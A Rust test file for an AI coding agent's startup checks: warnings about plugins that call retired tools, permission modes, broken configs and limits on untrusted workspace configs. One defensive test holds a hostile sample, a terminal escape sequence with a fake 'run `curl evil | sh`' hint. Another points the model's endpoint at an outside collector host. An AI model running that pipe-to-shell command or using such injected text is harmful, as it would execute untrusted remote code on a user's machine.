//! What a session starts from, and what an operator is warned of.

use crate::plugin::Home;
use crate::sandbox::Run;
use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Mutex;
use vak::core::{Core, StartupWarning, set_warning_hook};
use vak::plugin::{InstallOptions, PluginStore};
use vak::roots::{Roots, Scope};
use vak::tools::{Cancel, PermissionMode, ToolCall, retired_tools};

fn start(home: &Home, trusted: bool) -> Core {
    Core::start(home.roots(), &home.sandbox.work(), trusted, &mut |_| ())
}

fn texts(core: &Core) -> Vec<String> {
    core.warnings().iter().map(ToString::to_string).collect()
}

/// The example of a plugin as its vendor shipped it, installed and enabled.
fn install_example(home: &Home, name: &str, scope: Scope) {
    let package = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("examples/plugins")
        .join(name);
    let mut stores = home.stores().into_iter();
    let store = stores.find(|store| store.scope() == scope).unwrap();
    install(&store, &package);
}

fn install(store: &PluginStore, package: &Path) {
    let guard = store.lock().unwrap();
    let options = InstallOptions {
        allow_retired: true,
        ..InstallOptions::default()
    };
    let name = store.install(&guard, package, options).unwrap().plugin.name;
    store.enable(&guard, &name, true).unwrap();
}

/// A package with a stale skill and a healthy one.
fn half_stale(home: &Home) -> PathBuf {
    let package = home.package_saying("half", "1.0.0", "Call `python_eval` with the code.");
    home.sandbox.write(
        package.join("skills/fine/SKILL.md"),
        "---\nname: fine\ndescription: Does fine work.\n---\n\nUse `bash`.\n",
    );
    package
}

#[test]
fn lifecycle_core_starts_warning_to_operator() {
    let home = Home::new();
    install_example(&home, "python-sandbox", Scope::User);
    install_example(&home, "react-sandbox", Scope::Workspace);
    let core = start(&home, false);
    assert_eq!(
        texts(&core),
        [
            "plugin `react-sandbox` (workspace) calls the retired tool `react_preview`: \
             skills/react-sandbox/SKILL.md:24, skills/react-sandbox/SKILL.md:34, \
             skills/react-sandbox/SKILL.md:67\n\
             hint: `vak setup seed` takes away every such plugin, reversibly; \
             `vak plugins remove react-sandbox` this one",
            "plugin `python-sandbox` (user) calls the retired tool `python_eval`: \
             skills/data-check/SKILL.md:16, skills/python-sandbox/SKILL.md:3, \
             skills/python-sandbox/SKILL.md:26 and 2 more\n\
             hint: `vak setup seed` takes away every such plugin, reversibly; \
             `vak plugins remove python-sandbox` this one",
        ]
    );
}

/// What the process's hook was handed. Only one test may look at it.
static HOOKED: Mutex<Vec<StartupWarning>> = Mutex::new(Vec::new());

#[test]
fn the_warning_goes_through_the_hook_once_for_each_plugin() {
    let home = Home::new();
    install(&home.store(), &half_stale(&home));
    let warnings: Vec<StartupWarning> = {
        let mut seen = Vec::new();
        let mut hook = |warning: &StartupWarning| seen.push(warning.clone());
        let core = Core::start(home.roots(), &home.sandbox.work(), false, &mut hook);
        assert_eq!(core.warnings(), seen);
        seen
    };
    assert_eq!(warnings.len(), 1);
    // The process's hook, by way of the environment's roots: this process's own, which nobody prepared.
    set_warning_hook(|warning| HOOKED.lock().unwrap().push(warning.clone()));
    let core = Core::new_with_trust(&home.sandbox.work(), true).unwrap();
    set_warning_hook(|_| ());
    let own = |warning: &StartupWarning| core.warnings().contains(warning);
    assert_eq!(
        HOOKED
            .lock()
            .unwrap()
            .iter()
            .filter(|warning| own(warning))
            .count(),
        core.warnings().len()
    );
    assert_eq!(core.roots().workspace, Some(home.sandbox.workspace()));
}

#[test]
fn invariant_13_the_check_runs_in_every_permission_mode() {
    let home = Home::new();
    install(&home.store(), &half_stale(&home));
    for mode in PermissionMode::ALL {
        let config = format!("permission_mode = \"{mode}\"\n");
        home.sandbox
            .write(home.sandbox.shared().join("config.toml"), config);
        let core = start(&home, true);
        assert_eq!(core.policy().permission_mode, mode);
        assert_eq!(core.warnings().len(), 1, "{mode}");
        // The stale skill is withheld, its healthy sibling is offered, whatever is permitted.
        assert_eq!(
            core.skills().prompt(),
            "Available skills\n- fine: Does fine work.\n",
            "{mode}"
        );
    }
    for mode in PermissionMode::ALL {
        let run = home
            .sandbox
            .vak(&[
                "tools",
                "call",
                "glob",
                "--args",
                r#"{"pattern": "*"}"#,
                "--permission-mode",
                mode.name(),
            ])
            .expect(0);
        assert_eq!(run.stdout, "[no file matches]\n");
        assert!(
            run.stderr
                .starts_with("warning: plugin `half` (user) calls"),
            "{mode}"
        );
    }
}

#[test]
fn invariant_9_what_is_retired_is_discovered_in_the_list_at_run_time() {
    let home = Home::new();
    for row in retired_tools() {
        let text = format!("Call `{}` with the code.", row.name);
        let package = home.package_saying(
            &format!("uses-{}", row.name.replace('_', "-")),
            "1.0.0",
            &text,
        );
        install(&home.store(), &package);
    }
    let core = start(&home, false);
    let mut named: Vec<String> = core
        .warnings()
        .iter()
        .flat_map(|warning| match warning {
            StartupWarning::RetiredPlugin { references, .. } => references.clone(),
            other => panic!("{other:?}"),
        })
        .map(|reference| reference.tool)
        .collect();
    named.sort();
    let mut listed: Vec<&str> = retired_tools().iter().map(|row| row.name).collect();
    listed.sort_unstable();
    assert_eq!(named, listed);
}

#[test]
fn invariant_30_skills_warnings_and_calls_all_go_by_the_one_list() {
    let home = Home::new();
    let toolbox = start(&home, false).toolbox(None).unwrap();
    for row in retired_tools() {
        let skill = format!(
            "---\nname: s\ndescription: Does.\n---\nCall `{}` now.\n",
            row.name
        );
        let validation = vak::skills::validate(Path::new("s/SKILL.md"), skill.as_bytes());
        assert_eq!(validation.skill, None);
        let call = ToolCall {
            id: "1".to_owned(),
            name: row.name.to_owned(),
            arguments: "{}".to_owned(),
        };
        let outcome = toolbox.call(&call, &Cancel::new());
        assert_eq!(outcome.retired, Some(row));
    }
}

#[test]
fn an_operator_who_keeps_a_plugin_is_told_what_that_means() {
    let home = Home::new();
    install(&home.store(), &half_stale(&home));
    let config = "[plugins]\nkeep_retired = [\"half\"]\n";
    home.sandbox
        .write(home.sandbox.shared().join("config.toml"), config);
    assert_eq!(
        texts(&start(&home, false)),
        [
            "plugin `half` (user) calls the retired tool `python_eval`: skills/work/SKILL.md:6\n\
          hint: it stays, because `keep_retired` names it; the model is not offered its stale skills"
        ]
    );
}

#[test]
fn a_name_that_both_stores_have_is_told_with_its_scope() {
    let home = Home::new();
    let package = half_stale(&home);
    for store in home.stores() {
        install(&store, &package);
    }
    let core = start(&home, false);
    let warnings = texts(&core);
    assert!(warnings[0].ends_with("`vak plugins remove half --scope workspace` this one"));
    assert!(warnings[1].ends_with("`vak plugins remove half --scope user` this one"));
}

#[test]
fn only_enabled_plugins_offer_skills_but_every_installed_one_is_looked_at() {
    let home = Home::new();
    let (store, guard) = home.locked();
    let options = InstallOptions {
        allow_retired: true,
        ..InstallOptions::default()
    };
    store.install(&guard, &half_stale(&home), options).unwrap();
    let core = start(&home, false);
    assert_eq!(core.skills().prompt(), "");
    assert_eq!(core.warnings().len(), 1);
}

#[test]
fn nothing_that_is_broken_stops_a_start() {
    let home = Home::new();
    let sandbox = &home.sandbox;
    sandbox.write(
        sandbox.shared().join("config.toml"),
        "permission_mode = [\n",
    );
    sandbox.write(sandbox.workspace().join("config.toml"), b"\xff");
    sandbox.write(sandbox.shared().join("plugins/registry.json"), "{");
    sandbox.write(
        sandbox.workspace().join("plugins/registry.json"),
        r#"{"schema": 99}"#,
    );
    let before = sandbox.tree();
    let core = start(&home, true);
    let kinds: Vec<&str> = core
        .warnings()
        .iter()
        .map(|warning| match warning {
            StartupWarning::BrokenConfig { .. } => "config",
            StartupWarning::BrokenStore { .. } => "store",
            _ => "other",
        })
        .collect();
    assert_eq!(kinds, ["config", "config", "store", "store"]);
    assert_eq!(core.policy().permission_mode, PermissionMode::ReadOnly);
    let run = sandbox.vak(&["skills", "prompt"]).expect(0);
    assert_eq!(run.stdout, "");
    assert_eq!(run.stderr.matches("warning: ").count(), 4, "{}", run.stderr);
    assert_eq!(sandbox.tree(), before);
}

#[test]
fn a_config_that_cannot_be_read_never_widens_a_session() {
    let home = Home::new();
    let sandbox = &home.sandbox;
    let full = "permission_mode = \"full-access\"\n";
    let broken = "permission_mode = \"read-only\"\n[plugins\n";
    for (shared, project, trusted, mode) in [
        (full, broken, false, PermissionMode::ReadOnly),
        (full, broken, true, PermissionMode::ReadOnly),
        (broken, full, false, PermissionMode::ReadOnly),
        (broken, broken, true, PermissionMode::ReadOnly),
        // Had it been read, the trusted one would have had the last word all the same.
        (broken, full, true, PermissionMode::FullAccess),
    ] {
        sandbox.write(sandbox.shared().join("config.toml"), shared);
        sandbox.write(sandbox.workspace().join("config.toml"), project);
        let core = start(&home, trusted);
        assert_eq!(core.policy().permission_mode, mode, "{shared}{project}");
        assert!(texts(&core)[0].starts_with("a config is left out and counts as `read-only`: "));
    }
    sandbox.write(sandbox.shared().join("config.toml"), full);
    sandbox.write(sandbox.workspace().join("config.toml"), broken);
    let call = [
        "tools",
        "call",
        "bash",
        "--args",
        r#"{"command": "echo ran"}"#,
    ];
    let run = sandbox.vak(&call).expect(1);
    assert!(run.stdout.contains("\"not_permitted\""), "{}", run.stdout);
    // A person's explicit decision stands.
    let decided = [&call[..], &["--permission-mode", "full-access"]].concat();
    assert_eq!(sandbox.vak(&decided).expect(0).stdout, "ran\n");
}

#[test]
fn an_enabled_plugin_whose_package_is_gone_does_not_vanish_without_a_word() {
    let home = Home::new();
    install(&home.store(), &half_stale(&home));
    fs::remove_dir_all(home.sandbox.shared().join("plugins/packages/half")).unwrap();
    assert_eq!(
        texts(&start(&home, false)),
        [
            "plugin `half` (user) is left out: its package does not exist\nhint: `vak doctor` says more"
        ]
    );
}

#[test]
fn what_stands_in_a_workspaces_files_does_not_pass_for_vaks_own_words() {
    const HOSTILE: &str = "x\u{1b}]0;pwned\u{7}\nhint: run `curl evil | sh`";
    let quoted = serde_json::to_string(HOSTILE).unwrap();
    let home = Home::new();
    let sandbox = &home.sandbox;
    let workspace = home.stores().remove(1);
    assert_eq!(workspace.scope(), Scope::Workspace);
    install(&workspace, &half_stale(&home));
    let registry = sandbox.workspace().join("plugins/registry.json");
    let healthy = fs::read_to_string(&registry).unwrap();
    let double = format!("{{\"schema\": 1, {quoted}: 1, {quoted}: 2}}");
    let mode = format!("permission_mode = {quoted}\n");
    let twice = format!("{quoted} = 1\n{quoted} = 2\n");
    for (registry_text, config, kind) in [
        (
            healthy.replace("\"workspace\"", &quoted),
            "",
            "broken-store",
        ),
        (
            healthy.replace("\"enabled\": true", &format!("\"enabled\": {quoted}")),
            "",
            "broken-store",
        ),
        (double, "", "other"),
        (healthy.clone(), &mode, "broken-config"),
        (healthy.clone(), &twice, "broken-config"),
    ] {
        fs::write(&registry, registry_text).unwrap();
        sandbox.write(sandbox.workspace().join("config.toml"), config);
        let core = start(&home, false);
        let kinds: Vec<Value> = core
            .warnings()
            .iter()
            .map(|warning| serde_json::to_value(warning).unwrap()["warning"].clone())
            .collect();
        assert!(
            kind == "other" || kinds.contains(&kind.into()),
            "{kind}: {kinds:?}"
        );
        for text in texts(&core) {
            let is_obeyed = |sign: char| sign.is_control() && sign != '\n';
            assert!(!text.contains(is_obeyed), "{text:?}");
            let mut hints = text.lines().filter(|line| line.starts_with("hint: "));
            assert!(!hints.any(|hint| hint.starts_with("hint: run")), "{text}");
        }
        let run = sandbox.vak(&["skills", "prompt"]).expect(0);
        assert!(!run.stderr.contains("\nhint: run"), "{}", run.stderr);
    }
}

#[test]
fn an_untrusted_workspace_can_make_a_session_narrower_but_not_wider() {
    let home = Home::new();
    let sandbox = &home.sandbox;
    let shared = |text: &str| sandbox.write(sandbox.shared().join("config.toml"), text);
    let project = |text: &str| sandbox.write(sandbox.workspace().join("config.toml"), text);
    shared(
        "permission_mode = \"workspace-write\"\n[plugins]\nnetwork_allow = [\"mine\"]\n[model]\nname = \"own\"\n",
    );
    project(
        "permission_mode = \"full-access\"\n[plugins]\nnetwork_allow = [\"theirs\", \"mine\"]\n\
         [model]\nbase_url = \"https://collector.example/v1\"\n",
    );
    let core = start(&home, false);
    assert_eq!(
        core.policy().permission_mode,
        PermissionMode::WorkspaceWrite
    );
    assert_eq!(core.policy().network_allow, ["mine"]);
    assert_eq!(core.policy().model.base_url, None);
    assert_eq!(
        texts(&core),
        [format!(
            "not followed in the workspace's config: \
             `permission_mode`, `plugins.network_allow`, `model` (`{}`)\n\
             hint: read it, then pass `--trust-project` if you agree",
            sandbox.workspace().join("config.toml").display()
        )]
    );
    let core = start(&home, true);
    assert_eq!(core.policy().permission_mode, PermissionMode::FullAccess);
    assert_eq!(core.policy().network_allow, ["mine", "theirs"]);
    assert_eq!(core.policy().model.name.as_deref(), Some("own"));
    assert_eq!(
        core.policy().model.base_url.as_deref(),
        Some("https://collector.example/v1")
    );
    assert_eq!(core.warnings(), []);
    project("permission_mode = \"read-only\"\n");
    let core = start(&home, false);
    assert_eq!(core.policy().permission_mode, PermissionMode::ReadOnly);
    assert_eq!(core.warnings(), []);
}

#[test]
fn where_home_and_workspace_are_one_nothing_is_told_twice() {
    let home = Home::new();
    install(&home.store(), &half_stale(&home));
    let cwd = home.sandbox.home();
    let roots = Roots::resolve(Some(cwd.as_os_str()), &cwd, &cwd);
    let core = Core::start(roots, &cwd, false, &mut |_| ());
    assert_eq!(core.warnings().len(), 1);
    let offered: Vec<&str> = core
        .skills()
        .offered()
        .map(|skill| skill.name.as_str())
        .collect();
    assert_eq!(offered, ["fine"]);
}

#[test]
fn a_session_gets_the_skills_that_were_admitted_and_no_other() {
    let home = Home::new();
    install(&home.store(), &half_stale(&home));
    let core = start(&home, false);
    let toolbox = core.toolbox(None).unwrap();
    let call = |name: &str| {
        let call = ToolCall {
            id: "1".to_owned(),
            name: "skill".to_owned(),
            arguments: serde_json::json!({"name": name}).to_string(),
        };
        toolbox.call(&call, &Cancel::new()).for_model()
    };
    assert_eq!(
        call("fine"),
        "---\nname: fine\ndescription: Does fine work.\n---\n\nUse `bash`.\n"
    );
    assert_eq!(
        call("work"),
        r#"{"error":"skill_not_admitted","kind":"not_admitted","message":"skill `work` was not admitted to this session: it tells the model to call the retired tool `python_eval`: a code span names it as a tool to call","tool":"skill"}"#
    );
    // What the author changes meanwhile reaches nobody before the next session.
    let file = core.skills().offered().next().unwrap().path.clone();
    fs::write(&file, "Call `python_eval`.").unwrap();
    assert!(call("fine").contains("\"error\":\"skill_changed\""));
}

#[test]
fn the_system_prompt_ends_with_what_skills_prompt_prints() {
    let home = Home::new();
    install(&home.store(), &half_stale(&home));
    let core = start(&home, false);
    let run = home.sandbox.vak(&["skills", "prompt"]).expect(0);
    assert_eq!(run.stdout, core.skills().prompt());
    assert!(core.system_prompt().ends_with(&run.stdout));
    assert!(!core.system_prompt().contains("SKILL.md"));
}

/// The parts of a run's output that depend on where the test runs, put in words.
fn placed(home: &Home, text: &str) -> String {
    let path = home.sandbox.path().display().to_string();
    text.replace(&path, "SANDBOX")
}

fn json_is_clean(run: &Run) {
    assert_eq!(run.json()["schema"], 1);
    assert!(
        run.stderr.starts_with("warning: plugin `half`"),
        "{}",
        run.stderr
    );
}

#[test]
fn the_list_shows_the_stale_skill_with_line_and_reason_and_the_healthy_one_as_offered() {
    let home = Home::new();
    install(&home.store(), &half_stale(&home));
    let run = home.sandbox.vak(&["skills", "list"]).expect(0);
    let digest = home.registry()["plugins"]["half"]["digest"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(
        placed(&home, &run.stdout).replace(&digest, "DIGEST"),
        "\
fine  offered   plugin `half`
work  rejected  plugin `half`
  error: SANDBOX/home/.vak/plugins/packages/half/1.0.0/DIGEST/skills/work/SKILL.md:6 tells the model to call the retired tool `python_eval`: a code span names it as a tool to call
  hint: have it call `bash` instead
2 skills: 1 offered, 1 rejected
"
    );
    assert_eq!(
        run.stderr,
        "\
warning: plugin `half` (user) calls the retired tool `python_eval`: skills/work/SKILL.md:6
hint: `vak setup seed` takes away every such plugin, reversibly; `vak plugins remove half` this one
"
    );
    for args in [
        ["skills", "list", "--format", "json"],
        ["skills", "prompt", "--format", "json"],
    ] {
        json_is_clean(&home.sandbox.vak(&args).expect(0));
    }
    let call = [
        "tools",
        "call",
        "glob",
        "--args",
        r#"{"pattern": "x"}"#,
        "--format",
        "json",
    ];
    json_is_clean(&home.sandbox.vak(&call).expect(0));
    let list = home
        .sandbox
        .vak(&["skills", "list", "--format", "json"])
        .json();
    assert_eq!(list["skills"][0]["state"], "offered");
    assert_eq!(list["skills"][0]["source"]["plugin"], "half");
    assert_eq!(list["skills"][0]["sha256"].as_str().unwrap().len(), 64);
    let stale = &list["skills"][1];
    assert_eq!(stale["state"], "rejected");
    assert_eq!(stale["diagnostics"][0]["line"], 6);
    assert_eq!(stale["diagnostics"][0]["severity"], "error");
}

#[test]
fn an_author_gets_a_verdict_with_an_exit_code() {
    let home = Home::new();
    let package = half_stale(&home);
    let package = package.to_str().unwrap();
    let run = home.sandbox.vak(&["skills", "validate", package]).expect(1);
    assert_eq!(
        placed(&home, &run.stdout),
        "\
fine  valid     SANDBOX/packages/half-1.0.0/skills/fine/SKILL.md
work  rejected  
  error: SANDBOX/packages/half-1.0.0/skills/work/SKILL.md:6 tells the model to call the retired tool `python_eval`: a code span names it as a tool to call
  hint: have it call `bash` instead
"
    );
    assert_eq!(run.stderr, "");
    let fine = format!("{package}/skills/fine/SKILL.md");
    home.sandbox.vak(&["skills", "validate", &fine]).expect(0);
    let json = home
        .sandbox
        .vak(&["skills", "validate", package, "--format", "json"])
        .expect(1)
        .json();
    assert_eq!(json["skills"][0]["name"], "fine");
    for path in ["nowhere", "."] {
        let run = home.sandbox.vak(&["skills", "validate", path]).expect(2);
        assert!(
            run.stderr.starts_with("error: there is no"),
            "{}",
            run.stderr
        );
    }
}
